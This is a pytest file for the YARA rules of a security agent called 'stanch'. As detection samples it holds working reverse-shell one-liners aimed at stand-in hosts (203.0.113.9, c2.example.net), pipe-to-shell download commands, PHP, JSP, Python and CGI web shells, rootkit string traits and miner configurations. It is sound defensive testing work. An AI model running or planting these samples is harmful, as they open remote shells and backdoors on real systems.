"""The rules that come with the agent: what they find, what they leave alone, and that they are what they say."""

import hashlib
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
import yara

from stanch.agent.content_base import BASE, FOLDER, VERSION, base_installed, base_materials
from stanch.core.content import RESERVED
from stanch.worker.scan.hash_lists import HashLists

KNOWN = {1: "200b1edee947366c9dc99a9a9117c0a6b834e086c9286ab69bb89e1af7837b08"}
"""Version of our rules to the hash of all of them: whoever changes a rule raises the version, and writes it here."""

THIS = Path(__file__)
ROOT = THIS.parents[2]
EXTERNALS = {"filename": "", "filepath": "", "extension": "", "filetype": "", "owner": ""}
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9)
HOST = b"203.0.113.9"
SHELL = b"/bin/" + b"sh -i"


@pytest.fixture(scope="module")
def rules() -> yara.Rules:
    names = BASE["stanch-base"][1]
    return yara.compile(filepaths={one: str(FOLDER / one) for one in names}, externals=EXTERNALS, includes=False)


def found(rules: yara.Rules, data: bytes, path: str = "/srv/www/page") -> set[str]:
    named = {"filepath": path, "filename": path.rpartition("/")[2]}
    return {one.rule for one in rules.match(data=data, externals=named)}


REVERSE = {
    "bash": b"bash -i >& /dev/tcp/" + HOST + b"/4444 0>&1",
    "bash by name": b"/bin/bash -i > /dev/tcp/c2.example.net/443 0<& 2>&1",
    "exec": b"exec 5<>/dev/tcp/" + HOST + b"/9001; cat <&5 | while read line; do $line 2>&5 >&5; done",
    "nc": b"nc -e /bin/" + b"bash " + HOST + b" 4444",
    "nc behind": b"ncat " + HOST + b" 4444 -e /usr/bin/" + b"sh",
    "fifo": b"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f|" + SHELL + b" 2>&1|nc " + HOST + b" 4444 >/tmp/f",
    "python": b"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"" + HOST + b'",4444));'
    b"s=socket.socket(2,1);[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
    "perl": b"perl -e 'use Socket;$i=\"" + HOST + b'";connect(S,x);open(STDIN,">&S");exec("' + SHELL + b"\");'",
    "php": b"php -r '$s=fsockopen(\"" + HOST + b'",4444);exec("' + SHELL + b" <&3 >&3 2>&3\");'",
    "socat": b"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:" + HOST + b":4444",
}  # fmt: skip
UNIT = b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c '%s'\n[Install]\nWantedBy=multi-user.target\n"


@pytest.mark.parametrize("line", REVERSE.values(), ids=REVERSE)
def test_reverse_shells_are_found_where_programs_start(rules: yara.Rules, line: bytes) -> None:
    """A reverse shell in a crontab, a unit, a start file or a short script is found; a text about one is not."""
    name = "Reverse_shell_where_programs_start"
    assert name in found(rules, b"*/5 * * * * root " + line + b"\n", "/etc/cron.d/x")
    assert name in found(rules, line + b"\n", "/var/spool/cron/crontabs/root")
    assert name in found(rules, b"alias ll='ls -l'\n" + line + b"\n", "/home/alice/.bashrc")
    assert name in found(rules, UNIT.replace(b"%s", line), "/etc/systemd/system/x.service")
    assert name in found(rules, b"#!/bin/sh\n" + line + b"\n", "/tmp/x")
    assert not found(rules, b"# How attackers come in\n\nThey run `" + line + b"`.\n", "/usr/share/doc/x/README.md")


@pytest.mark.parametrize(
    "line",
    [
        b"exec 3<>/dev/tcp/$HOST/$PORT",
        b"echo > /dev/tcp/localhost/$port && echo open",
        b"nc -z " + HOST + b" 22",
        b"nc -l -p 9000 -c",
        b"mkfifo /run/x.fifo; cat /run/x.fifo",
        b"socat UNIX-LISTEN:/run/x.sock,fork TCP:127.0.0.1:80",
        b"curl -fsSL https://example.org/install.sh -o /tmp/install.sh",
        b"base64 -d < cert.b64 > cert.der",
    ],
)
def test_honest_lines_are_left_alone(rules: yara.Rules, line: bytes) -> None:
    """Health checks, relays and downloads in the same places are not taken for an attack."""
    assert not found(rules, b"* * * * * root " + line + b"\n", "/etc/cron.d/x")
    assert not found(rules, b"#!/bin/bash\n" + line + b"\n", "/usr/local/bin/x")


def test_download_and_run_is_found(rules: yara.Rules) -> None:
    """A crontab that pipes what an address or a paste site sends into a shell, or unpacks a hidden one."""
    name = "Download_and_run_where_programs_start"
    for line in (
        b"curl -fsSL http://" + HOST + b"/i.sh | sh",
        b"wget -q -O - http://" + HOST + b":8080/i | bash",
        b"curl https://pastebin.com/raw/abc | bash",
        b"echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK | base64 -d | bash",
    ):
        assert name in found(rules, b"*/5 * * * * " + line, "/var/spool/cron/root")
        assert name in found(rules, UNIT.replace(b"%s", line), "/etc/systemd/system/x.service")
        assert not found(rules, b"Run `" + line + b"`.", "/root/notes.md")


def test_a_preloaded_library_in_an_odd_place_is_found(rules: yara.Rules) -> None:
    """ld.so.preload may name libraries of packages, but none in temporary folders, and no hidden ones."""
    name = "Preloaded_library_in_an_odd_place"
    for line in (b"/tmp/libx.so\n", b"/lib/libgood.so /dev/shm/a.so", b"/usr/lib/.cache/libc.so.6\n"):
        assert found(rules, line, "/etc/ld.so.preload") == {name}
        assert not found(rules, line, "/etc/other")
    assert not found(rules, b"/usr/lib/x86_64-linux-gnu/libeatmydata.so\n", "/etc/ld.so.preload")


def test_hiding_libraries_and_modules_are_found(rules: yara.Rules) -> None:
    """A library or a module with the traits of a rootkit is found; with some of them it is not."""
    calls = [b"dlsym", b"readdir64", b"fopen64", b"unlinkat"]
    library = ELF + b"\x03\0" + b"\0".join(
        [b"/etc/ld.so.preload", *calls, b"/proc/net/tcp", b"/proc/self/maps", b""]
    )  # fmt: skip
    assert found(rules, library, "/lib/libx.so") == {"Library_that_hides_files"}
    assert not found(rules, library.replace(b"/proc/net/tcp", b"x"), "/lib/libx.so")
    module = ELF + b"\x01\0" + b"\0".join(
        [b"vermagic=6.1", b"__x64_sys_getdents64", b"commit_creds", b"prepare_creds", b"kallsyms_lookup_name", b""]
    )  # fmt: skip
    assert found(rules, module, "/lib/modules/x.ko") == {"Kernel_module_that_hides"}
    assert not found(rules, module.replace(b"getdents64", b"x"), "/lib/modules/x.ko")


def test_miners_are_found(rules: yara.Rules) -> None:
    """The configuration of a miner, and a unit or crontab that starts one."""
    config = b'{"autosave": true, "donate-level": 1, "pools": [{"algo": "rx/0", "user": "x", "url": "p:3333"}]}'
    assert found(rules, config) == {"Miner_configuration"}
    assert not found(rules, b'{"pools": [{"user": "x", "url": "db:5432"}]}')
    line = b"/opt/x -o stratum+tcp://pool.example.net:3333 -u x"
    assert found(rules, b"@reboot root " + line, "/etc/cron.d/x") == {"Miner_where_programs_start"}
    assert found(rules, UNIT.replace(b"%s", line), "/etc/systemd/system/x.service") == {"Miner_where_programs_start"}
    assert not found(rules, b"blocklist: stratum+tcp://pool.example.net:3333", "/etc/ids/rules")


WEB_SHELLS = {
    "PHP eval": b"<?php @eval($_POST['x']); ?>",
    "PHP system": b"<?php if(isset($_GET[0])){ system($_GET[0]); } ?>",
    "PHP exec": b"<?php echo exec ( $_REQUEST [ 'c' ] );",
    "PHP decoded": b"<?php eval(base64_decode($_COOKIE['x']));",
    "PHP ticks": b"<?= `$_GET[c]`?>",
    "PHP variable": b"<?php $_GET['f']($_POST['a']);",
    "PHP packed": b"<?php eval(gzinflate(base64_decode('S0ktLgEA')));",
    "JSP": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "JSP builder": b'<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>',
    "JSP loader": b'<%! class U extends ClassLoader { Class g(byte[] b){ return super.defineClass(b,0,b.length);} } %>'
    b'<% Cipher c=Cipher.getInstance("AES"); c.doFinal(request.getReader().readLine()); %>',
    "Python Flask": b"@app.route('/')\ndef x():\n    return os.popen(request.args.get('c')).read()\n",
    "Python Django": b"subprocess.check_output(request.GET['c'], shell=True)",
    "Python CGI": b"#!/usr/bin/python3\nform = cgi.FieldStorage()\nos.system(form.getvalue('c'))\n",
    "shell CGI": b"#!/bin/bash\necho 'Content-type: text/plain'\necho\neval \"$(echo $QUERY_STRING)\"\n",
}  # fmt: skip


@pytest.mark.parametrize("page", WEB_SHELLS.values(), ids=WEB_SHELLS)
def test_web_shells_are_found(rules: yara.Rules, page: bytes) -> None:
    """A page that runs what the request says."""
    assert len(found(rules, page)) >= 1


@pytest.mark.parametrize(
    "page",
    [
        b"<?php echo htmlspecialchars($_GET['x']); system('ls'); ?>",
        b"<?php $stmt->execute($_POST['id']); curl_exec($ch); $db->exec($sql);",
        b"<?php eval('?>' . $template);",
        b'<% String p = request.getParameter("q"); out.print(p); Runtime.getRuntime().gc(); %>',
        b"form = cgi.FieldStorage()\nprint(form.getvalue('q'))\nos.system('ls')\n",
        b"subprocess.run(['git', request.args['branch']])",
        b"#!/bin/sh\necho 'Content-type: text/plain'\necho\necho \"$QUERY_STRING\"\n",
    ],
)
def test_honest_pages_are_left_alone(rules: yara.Rules, page: bytes) -> None:
    """A page that only shows, stores or passes on what the request says is none."""
    assert not found(rules, page)


def test_the_test_file_is_found_by_rule_and_hash(rules: yara.Rules) -> None:
    """EICAR is found with and without a line end; a text that contains it is not."""
    [hashes] = base_materials("stanch-base-hashes")
    lists = HashLists()
    count, problems = lists.add(hashes.name, (FOLDER / "test_file.txt").read_bytes())
    assert (count, problems) == (BASE["stanch-base-hashes"][2], ())
    for data in (EICAR, EICAR + b"\n"):
        assert found(rules, data) == {"EICAR_test_file"}
        for kind in ("md5", "sha1", "sha256"):
            assert lists.find({kind: hashlib.new(kind, data).hexdigest()})
    assert not found(rules, b"The test file is " + EICAR)


async def test_they_are_what_they_say(rules: yara.Rules) -> None:
    """What is told as installed is what the files are: their number, their rules, and the pack that they would make."""
    installed = {one.name: one for one in base_installed()}
    assert installed["stanch-base"].rules == len(list(rules))
    assert {name.startswith(RESERVED) for name in installed} == {True}
    for name, one in installed.items():
        materials = base_materials(name)
        assert (one.files, one.kind, one.builtin) == (len(materials), BASE[name][0], True)
        for material in materials:
            async with material.open() as opened:
                assert hashlib.sha256(await opened.read(0, opened.size)).hexdigest() == material.sha256
    assert {one.name for one in FOLDER.iterdir()} == {one for _, names, _ in BASE.values() for one in names}


def test_a_change_of_the_rules_is_a_new_version() -> None:
    """Who changes a rule raises the version: scans of two agents are comparable only by that."""
    together = hashlib.sha256("".join(one.sha256 for one in base_installed()).encode()).hexdigest()
    assert KNOWN[VERSION] == together, "raise VERSION, and write down the hash"


def test_every_rule_says_what_it_is_for() -> None:
    """A finding has a title, and the rule its licence."""
    names = BASE["stanch-base"][1]
    compiled = yara.compile(filepaths={one: str(FOLDER / one) for one in names}, externals=EXTERNALS)
    for one in compiled:
        assert set(one.meta) == {"description", "license"}
        assert one.tags


def _sample(folders: list[Path], most: int) -> Iterator[Path]:
    for folder in folders:
        for here, below, names in os.walk(folder):
            below[:] = sorted(one for one in below if one != "__pycache__")  # this very file, compiled
            for name in sorted(names):
                path = Path(here, name)
                if path.is_file() and not path.is_symlink() and path != THIS and path.stat().st_size < 4 * 2**20:
                    yield path
                    most -= 1
                    if most == 0:
                        return


OWN = [ROOT / name for name in ("src", "tests", "docs", "benchmarks", "examples")]
SYSTEM = [
    Path(one) for one in ("/etc", "/usr/bin", "/usr/sbin", "/usr/lib/systemd", "/usr/share/doc", "/usr/share/perl5")
]


@pytest.mark.parametrize("folders", [OWN, SYSTEM], ids=["own", "system"])
def test_nothing_is_found_where_nothing_is(rules: yara.Rules, folders: list[Path]) -> None:
    """Neither in Stanch itself, which writes much about attacks, nor in a system as it was installed."""
    wrong = []
    for path in _sample([one for one in folders if one.is_dir()], 8000):
        try:
            data = path.read_bytes()
        except OSError:
            continue
        wrong += [f"{path}: {one}" for one in found(rules, data, str(path))]
    assert not wrong
